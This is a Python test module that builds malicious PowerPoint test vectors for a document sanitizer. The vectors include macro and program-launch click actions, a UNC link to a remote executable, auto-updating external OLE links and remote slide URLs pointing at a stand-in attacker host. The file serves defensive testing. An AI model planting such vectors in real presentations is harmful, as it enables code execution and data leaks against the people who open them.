"""What a presentation can carry (OOXML-110 to OOXML-122)."""

from tests.sanitizers.ooxml.forge import HOST, D, O, Package, Relation
from tests.sanitizers.ooxml.vector import (
    Vector,
    behind_tree,
    in_presentation,
    in_tree,
    outside,
    retyped,
    used,
    xml_of,
)
from tests.sanitizers.ooxml.vectors_package import shape_click

URL = f"http://{HOST}/a"
UNC = f"\\\\{HOST}\\a"
SLIDE = "presentationml.slide+xml"


def _timing(inside: str) -> str:
    return (
        '<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" nodeType="tmRoot"><p:childTnLst>'
        f"{inside}</p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>"
    )


_VERB = '<p:cmd type="verb" cmd="0"><p:cBhvr><p:cTn id="2"/><p:tgtEl><p:spTgt spid="2"/></p:tgtEl></p:cBhvr></p:cmd>'


def _sound(p: Package) -> None:
    slide = p.first(SLIDE)
    p.parts["ppt/media/audio7.wav"], p.types["ppt/media/audio7.wav"] = b"RIFF\4\0\0\0WAVE", "audio/x-wav"
    identifier = p.relate(slide, D + "audio", "ppt/media/audio7.wav")
    behind_tree(
        f'<p:transition><p:sndAc><p:stSnd><p:snd r:embed="{identifier}" name="a"/></p:stSnd></p:sndAc></p:transition>',
        "r",
    )(p)


def _film(p: Package) -> None:
    slide = p.first(SLIDE)
    p.parts["ppt/media/media7.mp4"], p.types["ppt/media/media7.mp4"] = b"\0\0\0\x10ftypisom\0\0\0\0", "video/mp4"
    kind = "http://schemas.microsoft.com/office/2007/relationships/media"
    identifier = p.relate(slide, kind, "ppt/media/media7.mp4")
    extension = f'<p:ext uri="{{DAA4B4D4-6D71-4841-9C94-3DE7FCFB9230}}"><p14:media r:embed="{identifier}"/></p:ext>'
    media = f"<p:extLst>{extension}</p:extLst>"
    shape = shape_click("").replace("<p:nvPr/>", f"<p:nvPr>{media}</p:nvPr>")
    in_tree(shape, "r", "p14")(p)


def _ole(link: str):
    def put(p: Package) -> None:
        slide = p.first(SLIDE)
        if link:
            identifier = p.relate(slide, D + "oleObject", link, is_external=True)
            inside = '<p:link updateAutomatic="1"/>'
        else:
            data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
            identifier = p.add("ppt/embeddings/oleObject7.bin", data, O + "oleObject", D + "oleObject", slide)
            inside = "<p:embed/>"
        frame = (
            '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="70" name="o"/><p:cNvGraphicFramePr/><p:nvPr/>'
            '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></p:xfrm><a:graphic>'
            '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
            f'<p:oleObj name="o" r:id="{identifier}" imgW="9525" imgH="9525" progId="Package">{inside}</p:oleObj>'
            "</a:graphicData></a:graphic></p:graphicFrame>"
        )
        in_tree(frame, "r")(p)

    return put


def _custom_data(p: Package) -> None:
    data = xml_of("p:tagLst", '<p:tag name="A" val="hidden"/>', "p")
    identifier = p.add("ppt/tags/tag7.xml", data, O + "presentationml.tags+xml", D + "tags")
    in_presentation(f'<p:custDataLst><p:tags r:id="{identifier}"/></p:custDataLst>', "r")(p)


def _publishing(p: Package) -> None:
    data = xml_of("p:presentationPr", '<p:htmlPubPr r:id="rId1"><p:sldAll/></p:htmlPubPr>', "p", "r")
    p.add("ppt/presProps.xml", data, O + "presentationml.presProps+xml", D + "presProps")
    target = "http://schemas.microsoft.com/office/2006/relationships/htmlPubSaveAs"
    p.relations["ppt/presProps.xml"] = {"rId1": Relation(target, f"file:///{UNC}\\a.htm", True)}


def _authors(p: Package) -> None:
    data = (
        '<p188:authorLst xmlns:p188="http://schemas.microsoft.com/office/powerpoint/2018/8/main"><p188:author'
        ' id="{00000000-1111-2222-3333-444444444444}" name="Secret" initials="S" userId="S::secret@attacker.example"'
        ' providerId="AD"/></p188:authorLst>'
    )
    kind = "http://schemas.microsoft.com/office/2018/10/relationships/authors"
    p.add("ppt/authors.xml", data, "application/vnd.ms-powerpoint.authors+xml", kind)


SLIDES = (
    *(
        Vector(
            "OOXML-110",
            f"the action {name}",
            "pptx",
            in_tree(shape_click(f'<a:hlinkClick r:id="" action="ppaction://{action}"/>'), "r"),
        )
        for name, action in (
            ("macro", "macro?name=Evil"),
            ("program", "program"),
            ("file", "hlinkfile"),
            ("presentation", "hlinkpres?slideindex=1"),
            ("verb", "ole?verb=0"),
            ("media", "media"),
        )
    ),
    Vector(
        "OOXML-110",
        "a program by its address",
        "pptx",
        used(
            "hyperlink",
            f"file:///{UNC}\\a.exe",
            lambda i: in_tree(shape_click(f'<a:hlinkClick r:id="{i}" action="ppaction://program"/>'), "r"),
            SLIDE,
        ),
    ),
    Vector("OOXML-111", "a command of an animation", "pptx", behind_tree(_timing(_VERB))),
    Vector("OOXML-112", "a sound of a transition", "pptx", _sound),
    Vector(
        "OOXML-113",
        "an update of a slide",
        "pptx",
        outside("http://schemas.openxmlformats.org/officeDocument/2006/relationships/slideUpdateUrl", URL, SLIDE),
    ),
    Vector(
        "OOXML-114",
        "a slide elsewhere",
        "pptx",
        used(
            "slide",
            f"{URL}.pptx",
            lambda i: lambda p: p.change(p.main, "</p:sldIdLst>", f'<p:sldId id="300" r:id="{i}"/></p:sldIdLst>'),
        ),
    ),
    Vector("OOXML-115", "a place to publish to", "pptx", _publishing),
    Vector("OOXML-116", "an OLE object", "pptx", _ole("")),
    Vector("OOXML-116", "a linked OLE object", "pptx", _ole(URL)),
    Vector("OOXML-117", "a film", "pptx", _film),
    Vector("OOXML-118", "tags", "pptx", _custom_data),
    Vector("OOXML-120", "a show that runs at once", "pptx", retyped(f"{O}presentationml.slideshow.main+xml")),
    Vector("OOXML-121", "authors", "pptx", _authors),
    Vector(
        "OOXML-122",
        "a password to change it",
        "pptx",
        in_presentation('<p:modifyVerifier algorithmName="SHA-512" hashData="AA==" saltData="AA==" spinValue="1"/>'),
    ),
)
